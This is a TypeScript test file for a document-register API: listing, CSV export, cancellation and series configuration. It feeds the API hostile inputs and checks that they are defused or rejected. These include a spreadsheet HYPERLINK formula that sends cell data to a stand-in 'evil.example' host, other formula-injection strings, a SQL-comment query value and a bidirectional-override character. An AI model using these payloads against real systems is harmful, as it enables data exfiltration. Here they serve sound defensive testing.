/**
 * The outgoing register over HTTP: the caller's office only, paging and filters, the CSV
 * export (BOM, RFC 4180, formulas defused), cancellation (registry, reason, audited, 404 for
 * another office's number), the series configuration; hostile input and wrong roles.
 */
import t from 'tap';
import { withTransaction } from '@lienthong/db';
import { reserveNumber } from '../src/registers/numbering.ts';
import { intakeForFile } from './support.ts';
import { callerOf, issueFlow, request, seedRegisterOffices } from './register-support.ts';

const { app, pool } = await intakeForFile(t);
await seedRegisterOffices(pool);

const registryA = callerOf('VPTU-A', 'registry');
const registryB = callerOf('TU-B', 'registry');
const date = new Date('2026-03-02T02:00:00Z');
const hostileSubjects = [
  '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
  '+1+2',
  '-2+3',
  '@SUM(A1:A2)',
  'Về việc "tổng kết", năm 2026',
];
for (const subject of hostileSubjects) await issueFlow(pool, request('VPTU-A', 'CT', { date, subject }));
await issueFlow(pool, request('VPTU-A', 'NQ', { date, subject: 'Nghị quyết về công tác xây dựng Đảng' }));
for (let i = 0; i < 6; i++)
  await issueFlow(pool, request('TU-B', 'CT', { date, subject: `Chỉ thị ${i} của Bạc Liêu` }));

const get = (url: string, headers: Record<string, string>) => app.inject({ method: 'GET', url, headers });

interface Listed {
  office: string;
  entries: { symbol: string; number: number; state: string }[];
  nextOffset: number | null;
}
const list = async (url: string, headers: Record<string, string>) => (await get(url, headers)).json<Listed>();

await t.test('the list: the caller’s office only, by series and number, paged', async (t) => {
  const res = await get('/v1/registers/outgoing', registryA);
  t.equal(res.statusCode, 200, res.body);
  const body = res.json<Listed>();
  t.equal(body.office, 'VPTU-A');
  t.same(
    body.entries.map((e) => e.symbol),
    ['01-CT/VPTU', '02-CT/VPTU', '03-CT/VPTU', '04-CT/VPTU', '05-CT/VPTU', '01-NQ/VPTU'],
  );
  t.match(body.entries[0], { state: 'issued', period: '2026', subject: hostileSubjects[0] });
  const page = await list('/v1/registers/outgoing?series=CT&period=2026&limit=2&offset=2', registryA);
  t.same(
    page.entries.map((e) => e.number),
    [3, 4],
  );
  t.equal(page.nextOffset, 4);
  const last = await list('/v1/registers/outgoing?series=CT&limit=2&offset=4', registryA);
  t.equal(last.nextOffset, null);
  const other = await list('/v1/registers/outgoing', registryB);
  t.equal(other.entries.length, 6, 'the other office sees its own register');
  t.ok(other.entries.every((e) => e.symbol.endsWith('-CT/TU')));
  const readers = ['office-system', 'archivist'];
  for (const role of readers) t.equal((await get('/v1/registers/outgoing', callerOf('VPTU-A', role))).statusCode, 200);
});

await t.test('refused: wrong roles, no token, malformed queries', async (t) => {
  for (const role of ['signer', 'directory-admin', 'ca-admin']) {
    for (const url of ['/v1/registers/outgoing', '/v1/registers/outgoing.csv', '/v1/registers/outgoing/config']) {
      const res = await get(url, callerOf('VPTU-A', role));
      t.equal(res.statusCode, 403, `${role} ${url}`);
      t.equal(res.json().code, 'FORBIDDEN');
    }
  }
  t.equal((await get('/v1/registers/outgoing', {})).statusCode, 401);
  const bad = [
    'series=CT%2F2026',
    'series=',
    `series=${'X'.repeat(33)}`,
    'series=C%00T',
    'period=abc',
    "period=2026'--",
    'limit=0',
    'limit=1001',
    'offset=-1',
    'office=TU-B',
    'state=deleted',
  ];
  for (const query of bad) {
    const res = await get(`/v1/registers/outgoing?${query}`, registryA);
    t.equal(res.statusCode, 400, query);
    t.equal(res.json().code, 'VALIDATION_FAILED');
  }
});

await t.test('the CSV: BOM, header, RFC 4180 quoting, formulas defused', async (t) => {
  const res = await get('/v1/registers/outgoing.csv?series=CT', registryA);
  t.equal(res.statusCode, 200);
  t.match(res.headers['content-type'], /^text\/csv; charset=utf-8/);
  t.match(res.headers['content-disposition'], /attachment; filename="so-van-ban-di-VPTU-A.csv"/);
  const bytes = res.rawPayload;
  t.same([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'a UTF-8 byte order mark');
  const lines = res.body.slice(1).split('\r\n');
  t.equal(lines.at(-1), '', 'CRLF after the last row');
  t.equal(
    lines[0],
    'số,ký hiệu,ngày,sổ,kỳ,loại,trích yếu,người ký,nơi nhận,trạng thái,người đăng ký,lý do hủy,ghi chú',
  );
  t.equal(lines.length, 7, 'the header and five rows');
  t.match(
    lines[1],
    /^1,01-CT\/VPTU,02\/03\/2026,CT,2026,CT,"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1,""Bấm vào đây""\)",/,
  );
  t.match(lines[2], /^2,02-CT\/VPTU,02\/03\/2026,CT,2026,CT,'\+1\+2,/);
  t.match(lines[3], /,'-2\+3,/);
  t.match(lines[4], /,'@SUM\(A1:A2\),/);
  t.match(lines[5], /,"Về việc ""tổng kết"", năm 2026",/);
  t.notMatch(res.body, /,[=+@-][^,]*/u, 'no cell starts with a formula character');
  t.notMatch(res.body, /Bạc Liêu/, 'nothing of another office');
});

await t.test('cancellation: registry only, reason required, audited, another office’s number not found', async (t) => {
  const url = (number: number | string, series = 'CT', period = '2026') =>
    `/v1/registers/outgoing/${encodeURIComponent(series)}/${period}/${number}/cancellation`;
  const post = (path: string, headers: Record<string, string>, payload: unknown) =>
    app.inject({
      method: 'POST',
      url: path,
      headers: { ...headers, 'content-type': 'application/json' },
      payload: JSON.stringify(payload),
    });
  const reason = 'Văn bản ban hành nhầm đối tượng';

  t.equal((await post(url(2), callerOf('VPTU-A', 'office-system'), { reason })).statusCode, 403);
  t.equal((await post(url(2), callerOf('VPTU-A', 'directory-admin'), { reason })).statusCode, 403);
  for (const body of [{}, { reason: '' }, { reason, extra: 1 }, { reason: 'x'.repeat(1001) }, { reason: 42 }]) {
    const res = await post(url(2), registryA, body);
    t.equal(res.statusCode, 400, JSON.stringify(body).slice(0, 40));
  }
  const sneaky = await post(url(2), registryA, { reason: 'hủy\u202E' });
  t.equal(sneaky.statusCode, 400);
  t.equal(sneaky.json().code, 'BAD_REQUEST');
  for (const path of [url(0), url('abc'), url(1_000_000), url(2, 'CT', '26'), url(2, 'C/T')]) {
    t.equal((await post(path, registryA, { reason })).statusCode, 400, path);
  }
  const elsewhere = await post(url(6), registryA, { reason });
  t.equal(elsewhere.statusCode, 404, 'TU-B has a number 6, VPTU-A does not');
  t.equal(elsewhere.json().code, 'REGISTER_ENTRY_NOT_FOUND');
  const { rows } = await pool.query("SELECT state FROM register_entry WHERE office = 'TU-B' AND number = 6");
  t.equal(rows[0].state, 'issued', 'the other office’s number is untouched');

  const done = await post(url(2), registryA, { reason });
  t.equal(done.statusCode, 200, done.body);
  t.match(done.json(), {
    symbol: '02-CT/VPTU',
    state: 'cancelled',
    cancellation: { reason, by: 'person:registry-vptu-a' },
  });
  const twice = await post(url(2), registryA, { reason });
  t.equal(twice.statusCode, 409);
  t.equal(twice.json().code, 'REGISTER_NUMBER_CANCELLED');
  const audit = await pool.query(
    "SELECT actor, reason FROM register_audit WHERE action = 'cancelled' AND office = 'VPTU-A'",
  );
  t.same(audit.rows, [{ actor: 'person:registry-vptu-a', reason }]);
  const listed = await list('/v1/registers/outgoing?series=CT', registryA);
  t.equal(listed.entries[1]!.state, 'cancelled', 'the cancelled number stays in the register');
  const csv = (await get('/v1/registers/outgoing.csv', registryA)).body;
  t.match(csv, `2,02-CT/VPTU,02/03/2026,CT,2026,CT,'+1+2,,,đã hủy,person:van-thu,${reason},`);
  const next = await issueFlow(pool, request('VPTU-A', 'CT', { date }));
  t.equal(next.symbol, '06-CT/VPTU', 'and is not given again');
});

await t.test('the series configuration: default, set by the registry, checked, used by the next number', async (t) => {
  const shown = await get('/v1/registers/outgoing/config', registryA);
  t.equal(shown.statusCode, 200);
  t.match(shown.json(), { office: 'VPTU-A', isDefault: true, revision: 0, config: { period: { kind: 'year' } } });
  const put = (headers: Record<string, string>, payload: unknown) =>
    app.inject({
      method: 'PUT',
      url: '/v1/registers/outgoing/config',
      headers: { ...headers, 'content-type': 'application/json' },
      payload: JSON.stringify(payload),
    });
  const party = {
    period: { kind: 'term', terms: [{ start: '2025-10-15', name: '2025–2030' }, { start: '2020-10-12' }] },
    shared: [{ name: 'QĐ', types: ['QĐ', 'QĐi'] }],
  };
  t.equal((await put(callerOf('VPTU-A', 'directory-admin'), party)).statusCode, 403);
  t.equal((await put(callerOf('VPTU-A', 'office-system'), party)).statusCode, 403);
  const wrong = await put(registryA, {
    period: { kind: 'term', terms: [{ start: '2025-02-30' }] },
    shared: [
      { name: 'QĐ', types: ['QĐ', 'XX'] },
      { name: 'Q', types: ['QĐ'] },
    ],
  });
  t.equal(wrong.statusCode, 422, wrong.body);
  t.equal(wrong.json().code, 'REGISTER_CONFIG_INVALID');
  t.equal(wrong.json().problems.length, 3, 'every problem listed');
  for (const body of [
    {},
    { period: { kind: 'decade' } },
    { ...party, office: 'TU-B' },
    { period: { kind: 'term', terms: [] } },
  ])
    t.equal((await put(registryA, body)).statusCode, 400, JSON.stringify(body).slice(0, 50));

  const set = await put(registryA, party);
  t.equal(set.statusCode, 200, set.body);
  t.match(set.json(), { isDefault: false, revision: 1, updatedBy: 'person:registry-vptu-a' });
  const reserved = await withTransaction(pool, (c) => reserveNumber(c, request('VPTU-A', 'CT', { date })));
  t.match(reserved, { series: 'CT', period: '2025-10-15', number: 1 }, 'a new series for the term');
  const before = await withTransaction(pool, (c) =>
    reserveNumber(c, request('VPTU-A', 'CT', { date: new Date('2019-01-01T00:00:00Z') })),
  ).catch((e: unknown) => e);
  t.match(before, { code: 'REGISTER_PERIOD_UNKNOWN' });
  t.match((await get('/v1/registers/outgoing/config', registryB)).json(), { office: 'TU-B', isDefault: true });
  const audit = await pool.query("SELECT actor FROM register_audit WHERE action = 'configured'");
  t.same(audit.rows, [{ actor: 'person:registry-vptu-a' }]);
});

await t.test('the OpenAPI document describes the register routes', async (t) => {
  const res = await app.inject({ method: 'GET', url: '/docs/json' });
  t.equal(res.statusCode, 200);
  const paths = Object.keys(res.json<{ paths: Record<string, unknown> }>().paths);
  for (const path of [
    '/v1/registers/outgoing',
    '/v1/registers/outgoing.csv',
    '/v1/registers/outgoing.pdf',
    '/v1/registers/outgoing/{series}/{period}/{number}/cancellation',
    '/v1/registers/outgoing/config',
  ])
    t.ok(paths.includes(path), path);
});

await t.test('an export beyond 100,000 entries says it is cut (x-register-truncated)', async (t) => {
  await pool.query("INSERT INTO register_series VALUES ('HU-A1', 'outgoing', 'BC', '2026', 100001)");
  await pool.query(
    `INSERT INTO register_entry (office, register, series, period, number, document_id, symbol, document_type,
       subject, entry_date, state, reserved_by)
     SELECT 'HU-A1', 'outgoing', 'BC', '2026', n, gen_random_uuid(), n || '-BC/HU', 'BC', 'Báo cáo', now(), 'reserved', 'p'
     FROM generate_series(1, 100001) AS n`,
  );
  const whole = await get('/v1/registers/outgoing.csv', callerOf('HU-A1', 'registry'));
  t.equal(whole.statusCode, 200);
  t.equal(whole.headers['x-register-truncated'], '100000');
  t.equal(whole.body.split('\r\n').length, 100_002, 'the header, 100,000 rows, the final line end');
  const own = await get('/v1/registers/outgoing.csv', registryA);
  t.equal(own.headers['x-register-truncated'], undefined, 'not on a whole export');
});
